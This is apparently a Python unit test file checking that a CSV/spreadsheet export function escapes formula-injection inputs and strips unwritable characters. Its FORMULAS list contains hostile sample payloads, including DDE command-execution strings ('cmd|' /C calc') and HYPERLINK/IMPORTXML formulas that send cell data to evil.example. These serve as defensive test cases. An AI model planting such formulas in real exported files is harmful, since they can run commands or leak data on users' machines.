"""What would a spreadsheet take for a formula?"""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from batchbell.contracts.exports.cells import neutralised, writable
from batchbell.contracts.exports.printed_numbers import is_number
from tests.unit.test_printed_numbers import NO_PLAIN, PLAIN

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff@SUM(A1)",
    "\uff1d1+1",
    "\uff0bA1",
    "\uff0dA1",
    "\uff20SUM(A1)",
    "-A1",
    "- five pieces",
    "-\n*cmd|' /C calc'!A0",
    "-5\n*cmd|' /C calc'!A0",
    "-5;A1",
    "+49 30 1234567",
    "-12.50 EUR",
    "-1e5",
    "%0A=1".replace("%0A", "\n"),
]
HARMLESS = [
    "",
    "plain",
    "a=b",
    "5 - 3",
    "A-4711",
    "mail@site.example",
    "'=quoted",
    "-",
    "--",
    " - ",
    "(12.50)",
    "5-",
    "\u2212A",  # a minus sign is no operator
    "first; second",
    "first\nsecond",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_neutralised(text: str) -> None:
    safe = neutralised(text)
    assert safe.startswith(("'", "\n'"))
    assert safe.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["\tx", "\rx", "\t", "\t=1+1", "\r\n=1+1"])
def test_a_tab_or_line_break_at_the_beginning_is_neutralised(text: str) -> None:
    assert neutralised(text).startswith("'")


@pytest.mark.parametrize("text", [*HARMLESS, *PLAIN, *NO_PLAIN])
def test_numbers_and_harmless_text_stay(text: str) -> None:
    """D13."""
    assert neutralised(text) == text


@pytest.mark.parametrize("between", [";", "\n", "\r\n", "\t", "; ", ";;"])
def test_what_begins_a_cell_elsewhere_is_neutralised_too(between: str) -> None:
    """Spreadsheets of many countries part cells at a semicolon; then quotes around a cell that is
    not the first of its line count for nothing.
    """
    assert neutralised(f"a{between}=1+1") in (f"a{between}'=1+1", f"a{between.strip()}' =1+1")
    assert neutralised(f"a{between}-12.50") == f"a{between}-12.50"


@pytest.mark.parametrize("parts", ["", ";\r\n", ";\t\r\n"], ids=["nowhere", "lines", "tabs"])
@given(text=st.text(alphabet="=+-@\t\r\n; '12.,*AB\uff1d\u200b", max_size=12))
def test_nothing_runs_wherever_cells_are_parted(parts: str, text: str) -> None:
    safe = neutralised(text)
    for part in parts:
        safe = safe.replace(part, "\0")
    for cell in safe.split("\0"):
        seen = cell.strip(" \t\r\n\u200b")
        runs = seen.startswith(tuple("=+-@\uff1d")) and seen.strip(" \u200b-") != ""
        assert not runs or is_number(seen)


@pytest.mark.parametrize("text", [";-", "\n", "-\n", ";- ", "\u200b", "-", "-1 ", ";-1 234", "-1;"])
def test_a_long_text_takes_no_long_time(text: str) -> None:
    began = time.process_time()
    neutralised(text * 50_000)
    assert time.process_time() - began < 2


@given(st.text(alphabet="=+-@\t\r\n; '12.,AB", max_size=12))
def test_only_apostrophes_are_added(text: str) -> None:
    assert neutralised(text).replace("'", "") == text.replace("'", "")


@given(st.text())
def test_it_is_done_once(text: str) -> None:
    once = neutralised(writable(text))
    assert neutralised(once) == once or text[:1] in tuple("\t\r\n")


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a\x00b\x1f\x7fc", "abc"),
        ("a\tb\r\nc", "a\tb\r\nc"),
        ("a\ufffeb\uffff", "ab"),
        ("\ud83d and \udc00", "\ufffd and \ufffd"),
        ("🙂 漢字 naïve", "🙂 漢字 naïve"),
    ],
)
def test_what_no_file_can_hold_is_left_out(text: str, kept: str) -> None:
    assert writable(text) == kept
